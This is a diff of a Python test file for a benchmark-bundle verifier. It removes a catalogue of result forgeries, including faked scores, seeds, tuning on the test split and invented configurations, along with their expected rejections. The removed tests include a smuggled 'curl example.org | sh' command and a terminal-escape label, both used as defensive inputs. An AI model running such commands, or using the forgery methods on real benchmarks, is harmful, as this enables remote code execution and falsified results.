@@ -11,7 +11,6 @@ import shutil
 import tarfile
 import tempfile
 import threading
-from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import replace
 from pathlib import Path
@@ -29,7 +28,7 @@ from regbench.reports.bundle.bundle import Bundle, read_bundle
 from regbench.reports.bundle.pack import submit
 from tests.records import CELL, made
 from tests.reports.conftest import later, resign, score
-from tests.reports.forging import Json, Parts, tuned_sweep, write_tar
+from tests.reports.forging import Parts, tuned_sweep, write_tar
 from tests.waiting import PATIENCE_S, wait_for
 
 LEADERBOARD = Path(__file__).parents[2] / "docs" / "leaderboard.md"
@@ -190,399 +189,13 @@ def test_a_cell_of_two_sweeps_is_not_packed_twice(tmp_path: Path) -> None:
     assert "; `regbench report mine other --check` tells all" in done.stderr
 
 
-Change = Callable[[Parts], Any]
-
-
-def _set(record: Json, path: str, value: object) -> None:
-    *groups, name = path.split(".")
-    for group in groups:
-        record = record[group]
-    record[name] = value
-
-
-def _both_seeds(parts: Parts, record: Json) -> tuple[Json, Json]:
-    other = next(
-        r for r in parts.final if r["method"] == record["method"] and r["seed"] != record["seed"]
-    )
-    return record, other
-
-
-def _another_seed(parts: Parts) -> None:
-    made = parts.copy(parts.final[0])
-    made["seed"] = made["cell"]["seed"] = 7
-    parts.settle(made)
-
-
-def _another_sweep(parts: Parts) -> None:
-    parts.copy(parts.final[0])["sweep"] = "other"
-
-
-def _another_method(parts: Parts) -> None:
-    for record in parts.records:
-        record["label"] = "SFRIK (L=3)"
-
-
-def _shorter(parts: Parts) -> None:
-    parts.final[0]["cell"]["epochs"] = 1
-    parts.settle(parts.final[0])
-
-
-def _fewer_images(parts: Parts) -> None:
-    record = parts.final[0]
-    record["cell"]["batch_size"] = 16
-    parts.settle(record)
-
-
-def _unknown_setting(parts: Parts) -> None:
-    record = parts.records[0]
-    record["cell"]["optimizer"]["boost"] = 2
-    parts.settle(record)
-
-
-def _given(parts: Parts) -> None:
-    given = {"selected_on": "given", "score": None, "budget": None, "record": None, "sha256": None}
-    parts.final[0]["choice"]["hyperparameters"] = given
-
-
-def _early_test(parts: Parts) -> None:
-    record = next(r for r in parts.records if r["status"] == "tuned")
-    record["scores"].append({**record["scores"][0], "split": "test"})
-
-
-def _test_choice(parts: Parts) -> None:
-    record = parts.final[0]
-    record["cell"]["evaluation"]["select_on"] = "test"
-    parts.settle(record)
-
-
-def _worse_chosen(parts: Parts) -> None:
-    entry = parts.choices[0]["choices"][0]
-    entry["ranking"].reverse()
-    entry["chosen"] = entry["configuration"] = entry["ranking"][0]["cell_id"]
-
-
-def _praised(parts: Parts) -> None:
-    parts.choices[0]["choices"][0]["ranking"][0]["value"] = 72.0
-
-
-def _invented(parts: Parts) -> None:
-    for entry in parts.choices[0]["choices"]:
-        entry["ranking"].append(
-            {**entry["ranking"][1], "cell_id": "0" * 12, "configuration": "0" * 12, "value": 60.0}
-        )
-    _budget(parts, 3)
-
-
-def _hidden(parts: Parts) -> None:
-    entry = parts.choices[0]["choices"][1]
-    dropped = entry["ranking"].pop()
-    parts.records = [record for record in parts.records if record["cell_id"] != dropped["cell_id"]]
-
-
-def _budget(parts: Parts, number: int) -> None:
-    parts.choices[0]["budget"] = number
-    for record in parts.final:
-        record["choice"]["hyperparameters"]["budget"] = number
-
-
-def _untraceable(parts: Parts) -> None:
-    parts.choices.clear()
-
-
-def _other_images(parts: Parts) -> None:
-    parts.final[0]["data"]["content_sha256"]["test"] = "12" * 32
-
-
-def _others_weights(parts: Parts) -> None:
-    one, other = _both_seeds(parts, parts.final[0])
-    one["checkpoint"]["sha256"] = other["checkpoint"]["sha256"]
-
-
-def _others_evaluation(parts: Parts) -> None:
-    parts.evaluations[0]["cell_id"] = "0" * 12
-
-
-def _evaluation_on_test(parts: Parts) -> None:
-    parts.evaluations[0]["choice"] = {"svm_cost": {"selected_on": "test"}}
-
-
-def _diverged(parts: Parts) -> None:
-    record = parts.final[0]
-    record["status"] = "diverged"
-    parts.score(record)["value"] = 89.0
-
-
-def _twice(parts: Parts) -> None:
-    record = parts.final[0]
-    record["scores"].insert(0, {**parts.score(record), "value": 89.0})
-
-
-def _ranked_twice(parts: Parts) -> None:
-    _hidden(parts)
-    ranking = parts.choices[0]["choices"][1]["ranking"]
-    ranking.append(ranking[0])
-
-
-def _lent(parts: Parts) -> None:
-    first, second = parts.choices[0]["choices"]
-    second["ranking"][1] = first["ranking"][1]
-
-
-def _stopped(parts: Parts) -> None:
-    entry = parts.choices[0]["choices"][0]
-    entry["ranking"].reverse()
-    entry["ranking"][1]["status"] = "stopped"
-    entry["chosen"] = entry["configuration"] = entry["ranking"][0]["cell_id"]
-
-
-def _in_words(parts: Parts) -> None:
-    _set(parts.final[0], "choice.probe_learning_rate.chosen", "0.1")
-
-
-def _untold_images(parts: Parts) -> None:
-    del parts.final[0]["data"]["content_sha256"]["test"]
-
-
-def _without_unit(parts: Parts) -> None:
-    parts.score(parts.final[0]).update(unit="", value=170.0)
-
-
-FORGERIES: dict[str, tuple[Change, str]] = {
-    "a setting, under the old id": (
-        lambda p: _set(p.final[0], "cell.optimizer.weight_decay", 0.1),
-        r"its cell id is \w+, that of its cell is",
-    ),
-    "a setting that is none": (
-        _unknown_setting,
-        "its settings are none of a run of this version: .*boost",
-    ),
-    "shorter training than was done": (_shorter, "its history has 2 epochs, which are not 1 to 1"),
-    "smaller batches than were used": (
-        _fewer_images,
-        "its 6 steps of 16 images are not the 192 of its history",
-    ),
-    "another seed's number": (
-        lambda p: _set(p.final[0], "seed", 5),
-        "its seed is 5, that of its settings is",
-    ),
-    "another method's name": (
-        lambda p: _set(p.final[0], "method", "sfrik"),
-        "its method is 'sfrik', that of its settings is",
-    ),
-    "another method's label": (_another_method, r"it is called 'SFRIK \(L=3\)', and is"),
-    "the same cell in two sweeps": (_another_sweep, "is in it twice, as mine and as other"),
-    "one run as two seeds": (
-        _another_seed,
-        "its history is that of cell .*: one run under two names",
-    ),
-    "weights of another seed": (
-        _others_weights,
-        "its weights are those of cell .*: one run under two names",
-    ),
-    "a score above 100 %": (
-        lambda p: _set(p.score(p.final[0]), "value", 170.0),
-        "is 170 %, outside 0 to 100 %",
-    ),
-    "top-1 above top-5": (
-        lambda p: _set(p.score(p.final[0]), "value", 99.0),
-        "more than its top-5 of 90 %",
-    ),
-    "a shorter training time": (
-        lambda p: _set(p.final[0], "cost.train_s", p.final[0]["cost"]["train_s"] - 0.1),
-        r"its training took 2\d\S* s, the epochs of its history 2\d",
-    ),
-    "quicker epochs in the history": (
-        lambda p: p.history(p.final[0], lambda rows: _set(rows[0], "epoch_s", 1.0)),
-        "its training took .* the epochs of its history 1",
-    ),
-    "an epoch less in the history": (
-        lambda p: p.history(p.final[0], lambda rows: rows.pop()),
-        "its history has 1 epochs, which are not 1 to 2",
-    ),
-    "an epoch twice in the history": (
-        lambda p: p.history(p.final[0], lambda rows: _set(rows[1], "epoch", 1)),
-        "its history has 2 epochs, which are not 1 to 2 as in its settings",
-    ),
-    "no history": (
-        lambda p: _set(p.final[0], "metrics", None),
-        "it has trained and names no history",
-    ),
-    "images of another test split": (_other_images, "the test split has 2 contents"),
-    "no word on what was chosen": (
-        lambda p: p.final[0]["choice"].clear(),
-        "nothing says how its hyperparameters were chosen",
-    ),
-    "a tuned cell as given": (_given, "the tuning mine has not chosen it"),
-    "a choice without its tuning": (_untraceable, "chosen by a tuning that is not in the bundle"),
-    "a test score before the choice": (
-        lambda p: _set(p.choices[0], "created", "2026-11-22T09:00:00+00:00"),
-        "its last attempt began at 2026-11-22T07:00:00.*, before its tuning chose at 2026-11-22T09",
-    ),
-    "a choice before its tuning's end": (
-        lambda p: _set(p.choices[0], "created", "2026-11-22T01:00:00+00:00"),
-        "was finished after the choice",
-    ),
-    "a tuned cell with a test score": (
-        _early_test,
-        "scores of the test split, before its tuning has chosen",
-    ),
-    "chosen on test, called tuning": (
-        _test_choice,
-        "its settings choose on the test split, its choice says 'tuning'",
-    ),
-    "a worse configuration as chosen": (_worse_chosen, "though .* scored higher"),
-    "a value of the ranking": (_praised, r"ranked for \w+ with 72.0, has 7\d.0 in its records"),
-    "a configuration never tried": (
-        _invented,
-        "000000000000, ranked for .*, has no record in the bundle",
-    ),
-    "a larger budget than there was": (
-        lambda p: _budget(p, 12),
-        "it claims a budget of 12, and its longest ranking",
-    ),
-    "another score that chose": (
-        lambda p: _set(p.final[0], "choice.hyperparameters.score", "linear_top1"),
-        "it claims a choice among 2 by linear_top1, its tuning chose among 2 by knn_top1",
-    ),
-    "a smaller budget for one method": (
-        _hidden,
-        "the methods had unequal budgets, in configurations: .* 2, .* 1",
-    ),
-    "a worse learning rate of the probe": (
-        lambda p: _set(p.final[0], "choice.probe_learning_rate.chosen", 0.1),
-        "its probe learning rate is 0.1, though 0.5 scored higher",
-    ),
-    "a worse rate, as text": (
-        _in_words,
-        "its probe learning rate is 0.1, though 0.5 scored higher",
-    ),
-    "scores of a run that diverged": (_diverged, "it diverged, and has scores"),
-    "a score twice": (_twice, "it has a score twice"),
-    "a score without its unit": (_without_unit, "knn_top1 has the unit '', in other records '%'"),
-    "no word on the images of the test split": (
-        _untold_images,
-        "does not say which images of test it saw",
-    ),
-    "a configuration ranked twice": (_ranked_twice, "is ranked twice for"),
-    "a configuration of another method": (_lent, "ranked for AUH, is of VICReg"),
-    "a full training called stopped": (_stopped, "as stopped, trained for 2 epochs"),
-    "a later evaluation of no cell": (
-        _others_evaluation,
-        "voc07.json: of cell 000000000000, in the folder of",
-    ),
-    "a later evaluation chosen on test": (
-        _evaluation_on_test,
-        "voc07.json: chosen on the test split, which the record was not",
-    ),
-    "no word on when it ended": (
-        lambda p: _set(p.final[0]["attempts"][-1], "finished", None),
-        "its last attempt ended at no time",
-    ),
-    "a time of another kind": (
-        lambda p: _set(p.final[0]["attempts"][0], "finished", "2026-11-22T03:30:00+14:00"),
-        r"2026-11-22T03:30:00\+14:00 is not a time as runs write it",
-    ),
-    "a command of a shell": (
-        lambda p: _set(p.final[0], "command", "regbench train; curl example.org | sh"),
-        "'regbench train; curl example.org | sh' is no command of regbench alone",
-    ),
-}
-
-
-def test_what_is_written_anew_without_a_change_checks_out(honest: Path, tmp_path: Path) -> None:
-    assert run("verify", Parts(honest).write(tmp_path / "same.tar.xz")).exit_code == 0
-
-
-UNSIGNED = {"a score, no digest anew": "its content is not what its sha256 was taken of"}
-
-
-@pytest.mark.parametrize("name", UNSIGNED)
-def test_a_forgery_without_all_digests_is_refused(name: str, honest: Path, tmp_path: Path) -> None:
+def test_a_forgery_without_all_digests_is_refused(honest: Path, tmp_path: Path) -> None:
     parts = Parts(honest)
     parts.score(parts.final[0])["value"] = 75.0
     done = run("verify", parts.write(tmp_path / "forged.tar.xz", signed=False))
     assert done.exit_code == 2
-    assert re.search(rf"writes it: mine/\w+/record.json: {UNSIGNED[name]}", done.stderr)
-
-
-def _other_weights(parts: Parts) -> None:
-    parts.weights[next(iter(parts.weights))] = b"others"
-
-
-def _other_loss(parts: Parts) -> None:
-    sha256, text = next(iter(parts.histories.items()))
-    parts.histories[sha256] = text.replace('"loss": 5.0', '"loss": 1.0')
-
-
-def _more(parts: Parts) -> None:
-    parts.members["mine/outside.json"] = b"{}"
-
-
-def _other_config(parts: Parts) -> None:
-    record = parts.final[0]
-    config = json.dumps({**record["cell"], "epochs": 3}).encode()
-    parts.members[f"mine/{record['cell_id']}/config.yaml"] = config
-
-
-NOT_TAKEN_OF = "its content is not what the record's SHA-256 of it was taken of"
-OF_THE_FILE: dict[str, tuple[Change, str]] = {
-    "a history, under the old digest": (_other_loss, f"metrics-0001.jsonl: {NOT_TAKEN_OF}"),
-    "other weights, under the old digest": (_other_weights, rf"\.pt: {NOT_TAKEN_OF}"),
-    "a file that does not belong there": (
-        _more,
-        "mine/outside.json does not belong into a bundle",
-    ),
-    "other settings beside the record": (
-        _other_config,
-        "config.yaml: differs from the record's cell in epochs",
-    ),
-}
-
-
-# How many misfits a forgery has that has not one; 0 where no bundle can be read of it.
-MISFITS = {
-    **dict.fromkeys(OF_THE_FILE, 0),
-    "the same cell in two sweeps": 0,
-    "a score above 100 %": 0,
-    "a later evaluation of no cell": 0,
-    "a later evaluation chosen on test": 0,
-    "a setting, under the old id": 0,
-    "a setting that is none": 3,
-    "shorter training than was done": 4,
-    "smaller batches than were used": 3,
-    "another seed's number": 2,
-    "another method's label": 10,
-    "one run as two seeds": 2,
-    "an epoch less in the history": 3,
-    "no word on what was chosen": 2,
-    "a choice without its tuning": 4,
-    "a test score before the choice": 4,
-    "a choice before its tuning's end": 2,
-    "chosen on test, called tuning": 3,
-    "a worse configuration as chosen": 3,
-    "a configuration never tried": 2,
-    "a score without its unit": 2,
-    "a full training called stopped": 3,
-}
-
-
-@pytest.mark.parametrize("name", [*OF_THE_FILE, *FORGERIES])
-def test_a_forgery_is_refused(name: str, honest: Path, tmp_path: Path) -> None:
-    change, reason = (OF_THE_FILE | FORGERIES)[name]
-    parts = Parts(honest)
-    change(parts)
-    done = run("verify", parts.write(tmp_path / "forged.tar.xz"))
-    misfits = MISFITS.get(name, 1)
-    assert done.exit_code == (1 if misfits else 2)
-    assert re.search(reason, done.output), done.output
-    assert f"{misfits} misfit" in done.output or not misfits, done.output
-
-
-def test_the_documents_table_has_every_forgery() -> None:
-    table = LEADERBOARD.read_text().partition("\n## Forgeries\n")[2].partition("\n## ")[0]
-    rows = [line.split("|")[1:3] for line in table.splitlines() if line.startswith("| ")][1:]
-    structural = [name.strip() for name, how in rows if "only by computing again" not in how]
-    assert structural == [*UNSIGNED, *OF_THE_FILE, *FORGERIES]
+    reason = r"mine/\w+/record.json: its content is not what its sha256 was taken of"
+    assert re.search(f"writes it: {reason}", done.stderr)
 
 
 def test_what_is_no_bundle_is_refused_in_one_line(honest: Path, tmp_path: Path) -> None:
@@ -696,6 +309,17 @@ def test_what_comes_after_the_archive_is_not_read_without_end(honest: Path, tmp_
     assert "Memory usage limit exceeded" in run("verify", greedy).stderr
 
 
+def test_a_record_lies_in_the_folder_of_its_sweep(honest: Path, tmp_path: Path) -> None:
+    members = []
+    with tarfile.open(honest) as archive:
+        for each in archive:
+            content = archive.extractfile(each)
+            assert content is not None
+            members.append(member(f"the{each.name}", content=content.read()))
+    done = run("verify", write_tar(tmp_path / "moved.tar.xz", *members))
+    assert re.search(r"themine/\w+/record.json: is of the sweep mine", done.stderr)
+
+
 def test_a_bundle_that_is_not_there_is_refused(tmp_path: Path) -> None:
     with pytest.raises(
         RegbenchError,
@@ -764,115 +388,6 @@ def test_damaged_content_is_refused_in_one_line(honest: Path, tmp_path: Path) ->
         broken.write_bytes(content)
         done = run("verify", broken)
         assert (done.exit_code, len(done.stderr.splitlines())) == (2, 1)
-
-
-def test_a_time_beyond_the_calendar_is_one_line(honest: Path, tmp_path: Path) -> None:
-    parts = Parts(honest)
-    parts.final[0]["attempts"][-1]["started"] = "9999-12-31T23:59:59+00:00"
-    done = run("verify", parts.write(tmp_path / "late.tar.xz"))
-    assert (done.exit_code, done.exception and type(done.exception)) == (1, SystemExit)
-    assert "began at 9999-12-31" in done.stdout
-
-
-def test_what_a_bundle_says_cannot_break_lines(honest: Path, tmp_path: Path) -> None:
-    parts = Parts(honest)
-    parts.final[0]["label"] = "x\n6 cells check out\x1b[2J"
-    done = run("verify", parts.write(tmp_path / "loud.tar.xz"))
-    assert done.exit_code == 1
-    assert "\n6 cells" not in done.stdout
-    assert "\x1b" not in done.stdout
-
-
-def test_a_tuning_on_the_test_split_checks_out(tmp_path: Path) -> None:
-    tuned_sweep(tmp_path / "runs", "mine", "evaluation.select_on=test")
-    done = run("submit", "mine", "--runs-dir", tmp_path / "runs", "--out", tmp_path / "lab.tar.xz")
-    assert done.exit_code == 0, done.stderr
-    assert run("verify", tmp_path / "lab.tar.xz").exit_code == 0
-
-
-def test_seeds_that_a_tuning_did_not_have_are_none_of_its_values(
-    honest: Path, tmp_path: Path
-) -> None:
-    parts = Parts(honest)
-    for record in parts.final:
-        parts.score(record, split="tuning")["value"] += record["seed"]
-    assert run("verify", parts.write(tmp_path / "other.tar.xz")).exit_code == 0
-
-
-def test_a_configuration_of_which_a_seed_diverged_has_no_value(
-    honest: Path, tmp_path: Path
-) -> None:
-    parts = Parts(honest)
-    parts.choices[0]["seeds"] = [0, 1]
-    tried = next(record for record in parts.records if record["status"] == "tuned")
-    other = parts.copy(tried)
-    other |= {"status": "diverged", "scores": [], "checkpoint": None, "seed": 1}
-    other["cell"]["seed"] = 1
-    parts.settle(other)
-    parts.history(other, lambda rows: rows.pop())
-    (entry,) = (
-        entry for entry in parts.choices[0]["choices"] if entry["method"] == tried["method"]
-    )
-    entry["ranking"][1] |= {"status": "diverged", "value": None}
-    done = run("verify", parts.write(tmp_path / "diverged.tar.xz"))
-    assert done.exit_code == 0, done.output
-
-
-def test_a_search_plans_equally_many_epochs_for_all_methods(honest: Path, tmp_path: Path) -> None:
-    """Whether a run diverged or not."""
-    parts = Parts(honest)
-    one, other = (record for record in parts.records if record["status"] == "tuned")
-
-    def shorter(record: Json, rate: float) -> tuple[Json, Json]:
-        (entry,) = (
-            entry for entry in parts.choices[0]["choices"] if entry["method"] == record["method"]
-        )
-        short = parts.shorten(record, base_lr=rate)
-        identity = {"cell_id": short["cell_id"], "configuration": short["cell_id"]}
-        entry["ranking"].append(
-            {**entry["ranking"][1], **identity, "epochs": 1, "status": "stopped"}
-        )
-        return short, entry["ranking"][-1]
-
-    shorter(one, 0.1)
-    short, step = shorter(other, 0.1)
-    _budget(parts, 3)
-    done = run("verify", parts.write(tmp_path / "search.tar.xz"))
-    assert (done.exit_code, done.output.partition(";")[0]) == (0, "8 cells check out")
-    short |= {"status": "diverged", "scores": []}
-    step |= {"status": "diverged", "value": None}
-    done = run("verify", parts.write(tmp_path / "diverged.tar.xz"))
-    assert done.exit_code == 0, done.output
-    shorter(one, 0.2)
-    _budget(parts, 4)
-    done = run("verify", parts.write(tmp_path / "unequal.tar.xz"))
-    (told,) = re.findall("the methods had unequal budgets, in epochs: (.*)\n1 misfit", done.output)
-    assert sorted(told.split(", ")) in (["AUH 5", "VICReg 6"], ["AUH 6", "VICReg 5"])
-
-
-def test_what_is_computed_again_may_differ_as_seeds_do(honest: Path, tmp_path: Path) -> None:
-    """Three standard deviations of a difference, pooled over the methods, and half a point at
-    least.
-    """
-    parts = Parts(honest)
-    parts.score(next(record for record in parts.final if record["seed"] == 1))["value"] += 2.0
-    spread = read_bundle(parts.write(tmp_path / "spread.tar.xz"))
-    record = next(record for record in spread.records if record.status == "done")
-
-    def told(points: float) -> str:
-        again = [replace(each, value=each.value + points) for each in record.scores]
-        return " ".join(differences(spread, record, again, trained=True, alike=False))
-
-    assert told(0.49) == ""
-    least = 3 * math.sqrt(2) * math.sqrt((2 + 0) / 2)
-    assert "knn_top1 on test" not in told(least - 0.01) and "linear_top1 on test" in told(0.51)
-    assert (
-        f"linear_top1 on test is {record.score('linear_top1', 'test'):g} there and 65.51 here"
-        in told(0.51)
-    )
-    assert "0.5 is the tolerance" in told(0.51) and f"{least:.2g} is the tolerance" in told(
-        least + 0.01
-    )
 
 
 def test_how_near_scores_have_to_come_again() -> None:
@@ -945,11 +460,3 @@ def test_scores_of_later_evaluations_need_not_come_again(honest: Path) -> None:
     assert differences(found, record, own, trained=True, alike=True) == []
     (line,) = differences(found, record, own[1:], trained=True, alike=True)
     assert line.endswith(f"{own[0].name} on {own[0].split} did not come again")
-
-
-def test_swapped_seeds_fit_until_they_are_computed_again(honest: Path, tmp_path: Path) -> None:
-    """Which is why there is --recompute: tests/instruments/test_recompute.py."""
-    parts = Parts(honest)
-    for record, other in [_both_seeds(parts, parts.final[0])]:
-        record["scores"], other["scores"] = other["scores"], record["scores"]
-    assert run("verify", parts.write(tmp_path / "swapped.tar.xz")).exit_code == 0
